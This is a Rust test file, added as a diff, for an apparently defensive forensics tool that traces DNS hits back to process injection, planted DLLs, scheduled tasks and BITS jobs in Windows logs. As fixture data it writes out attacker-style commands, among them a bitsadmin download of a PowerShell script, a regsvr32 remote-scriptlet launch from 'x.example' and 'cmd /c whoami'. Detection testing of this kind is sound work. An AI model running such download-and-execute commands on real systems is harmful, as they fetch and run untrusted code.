@@ -1,0 +1,158 @@
+//! Programs that act for others: servers, dispatchers and desktops that were made to do something.
+
+mod common;
+
+use common::*;
+use whodunit_event::Confidence::{Circumstantial, Strong, Unknown};
+
+const SHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
+
+fn cmd() -> Proc {
+    proc("04:50:20", 77, "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c whoami")
+}
+
+fn steps(log: &whodunit_trace::Story) -> String {
+    log.steps.iter().map(|s| s.text.as_str()).collect::<Vec<_>>().join("\n")
+}
+
+#[test]
+fn an_unknown_root_names_where_the_evidence_ends() {
+    let mut log = Recording::new();
+    let shell = proc("04:00:00", 60, SHELL, "powershell -noP");
+    log.start(&cmd(), &shell);
+    log.dns_hit("04:56:03", &cmd());
+    let story = log.story();
+    assert_eq!((root(&story), story.root.confidence), (("unknown", "powershell.exe"), Unknown));
+    assert_eq!(story.root.command.as_deref(), Some("powershell -noP"));
+    assert!(!story.root.evidence.is_empty() && story.root.why.contains("its start was not recorded"));
+}
+
+#[test]
+fn a_server_that_puts_code_into_another_program_was_made_to() {
+    let server = proc("03:00:00", 50, "C:\\Windows\\System32\\inetsrv\\w3wp.exe", "w3wp.exe -ap \"Pool\"");
+    let pad = proc("04:40:00", 51, "C:\\Windows\\System32\\notepad.exe", "notepad.exe");
+    let mut log = Recording::new();
+    log.start(&pad, &server);
+    log.reach(8, "04:40:01", &server, &pad, &[("StartAddress", "0x1"), ("StartModule", "-")]);
+    log.dns_hit("04:56:03", &pad);
+    let story = log.story();
+    assert_eq!((root(&story).0, story.root.confidence), ("exploit", Strong));
+    assert_eq!(edges(&story), ["hit", "injection", "exploit"]);
+    assert!(root(&story).1.contains("w3wp.exe"));
+}
+
+#[test]
+fn many_threads_of_one_source_are_one_explanation() {
+    let shell = proc("03:00:00", 50, SHELL, "powershell");
+    let pad = proc("04:40:00", 51, "C:\\Windows\\System32\\notepad.exe", "notepad.exe");
+    let mut log = Recording::new();
+    for second in ["04:41:00", "04:41:01", "04:41:02"] {
+        // The source's image is one stray character: its GUID is right, another record has its name.
+        let stray = Proc { image: "\u{3100}", ..shell.clone() };
+        log.reach(8, second, &stray, &pad, &[("StartAddress", "0x1"), ("StartModule", "-")]);
+    }
+    log.sysmon(3, "04:10:00", &shell, &[("DestinationIp", "10.0.0.1"), ("Initiated", "true")]);
+    log.dns_hit("04:56:03", &pad);
+    let story = log.story();
+    assert_eq!(root(&story), ("unknown", "powershell.exe"));
+    assert!(story.root.alternatives.is_empty(), "{:?}", story.root.alternatives);
+    assert_eq!(story.steps[1].evidence.len(), 3);
+}
+
+/// A task host loads a module and starts a shell; the module was written just before, or hours before by a setup.
+fn planted(loaded: &str) -> whodunit_trace::Story {
+    let host = proc("04:50:19", 70, "C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe $(Arg0)");
+    let tool = proc("04:50:10", 71, "C:\\Users\\a\\tool.exe", "tool.exe");
+    let console = proc("01:00:00", 72, "C:\\Windows\\System32\\cmd.exe", "cmd.exe");
+    let module = "C:\\Users\\a\\system32\\npmproxy.dll";
+    let mut log = Recording::new();
+    log.start(&tool, &console);
+    log.sysmon(11, "04:50:12", &tool, &[("TargetFilename", module)]);
+    log.start(&host, &SCHEDULE);
+    log.sysmon(7, loaded, &host, &[("ImageLoaded", module), ("Signed", "false")]);
+    log.start(&Proc { start: "04:51:20", ..cmd() }, &host);
+    log.dns_hit("04:56:03", &Proc { start: "04:51:20", ..cmd() });
+    log.story()
+}
+
+#[test]
+fn a_task_host_with_a_planted_module() {
+    let story = planted("04:51:19");
+    assert_eq!((root(&story), story.root.confidence), (("unknown", "cmd.exe"), Unknown));
+    assert!(steps(&story).contains("npmproxy.dll") && steps(&story).contains("tool.exe (71)"), "{}", steps(&story));
+    // Loaded long before the start: no longer the module's doing.
+    assert_eq!(root(&planted("04:50:25")).0, "scheduled-task");
+}
+
+#[test]
+fn a_task_made_just_before_a_start_whose_parent_nobody_could_name() {
+    let tool = proc("04:50:00", 70, "C:\\Windows\\System32\\schtasks.exe", "schtasks /Create /XML a.xml /TN Usage");
+    let orphan = [("CommandLine", "rundll32 x.dll,y"), ("ParentProcessId", "1216"), ("ParentImage", "?")];
+    let child = proc("04:50:40", 77, "C:\\Windows\\System32\\rundll32.exe", "rundll32 x.dll,y");
+    let mut log = Recording::new();
+    log.start(&tool, &proc("04:00:00", 60, SHELL, "powershell"));
+    log.sysmon(1, child.start, &child, &orphan);
+    log.dns_hit("04:56:03", &child);
+    let story = log.story();
+    assert_eq!((root(&story), story.root.confidence), (("scheduled-task", "\\Usage"), Circumstantial));
+}
+
+#[test]
+fn a_hit_farther_from_the_root_tells_the_whole_way() {
+    let shell = proc("04:00:00", 60, SHELL, "powershell");
+    let mut log = Recording::new();
+    log.dns_hit("04:10:00", &shell);
+    log.start(&cmd(), &shell);
+    log.dns_hit("04:56:03", &cmd());
+    let story = log.story();
+    assert_eq!(story.hits.len(), 2);
+    assert_eq!(edges(&story), ["hit", "parent"], "the way of the second hit comes through the first's process");
+}
+
+const BITS: Proc = Proc {
+    start: "04:49:00",
+    pid: 4696,
+    image: "C:\\Windows\\System32\\svchost.exe",
+    command: "C:\\windows\\System32\\svchost.exe -k netsvcs -p -s BITS",
+};
+
+/// bitsadmin made a job for this URL; then the service fetched from de.xxxxxxx.com.
+fn fetched(url: &str) -> whodunit_trace::Story {
+    let command = format!("bitsadmin /transfer job /download {url} C:\\Users\\a\\x.ps1");
+    let command: &'static str = command.leak();
+    let tool = proc("04:48:58", 70, "C:\\Windows\\System32\\bitsadmin.exe", command);
+    let mut log = Recording::new();
+    log.start(&tool, &cmd());
+    log.start(&BITS, &SERVICES);
+    log.dns_hit("04:49:02", &BITS);
+    log.story()
+}
+
+#[test]
+fn a_fetch_of_the_bits_service_is_its_jobs_doing() {
+    let story = fetched("https://de.xxxxxxx.com/a");
+    assert_eq!((root(&story), story.root.confidence), (("bits-job", "job"), Strong));
+    assert!(steps(&story).contains("bitsadmin.exe (70)"), "{}", steps(&story));
+    let other = fetched("https://de.xxxxxxx.com.example.org/a");
+    assert_ne!(root(&other).0, "bits-job", "a job for another host does not explain it");
+}
+
+#[test]
+fn two_jobs_and_a_bare_command_line_name_neither() {
+    let netsvcs = Proc { command: "C:\\Windows\\system32\\svchost.exe -k netsvcs", ..SCHEDULE };
+    let child = proc("04:50:20", 77, "C:\\Windows\\System32\\regsvr32.exe", "/u /s /i:https://x.example scrobj.dll");
+    let mut log = Recording::new();
+    for job in ["one", "two"] {
+        let fields = [("string", job), ("string2", "CORP\\a")];
+        log.any("Microsoft-Windows-Bits-Client", 3, "03:00:00", &fields);
+    }
+    log.start(&child, &netsvcs);
+    log.dns_hit("04:56:03", &child);
+    let story = log.story();
+    assert_eq!((root(&story), story.root.confidence), (("bits-job", ""), Circumstantial));
+    let others: Vec<&str> = story.root.alternatives.iter().map(|a| a.text.as_str()).collect();
+    assert!(
+        others.iter().any(|t| t.contains("BITS job one")) && others.iter().any(|t| t.contains("task")),
+        "{others:?}"
+    );
+}
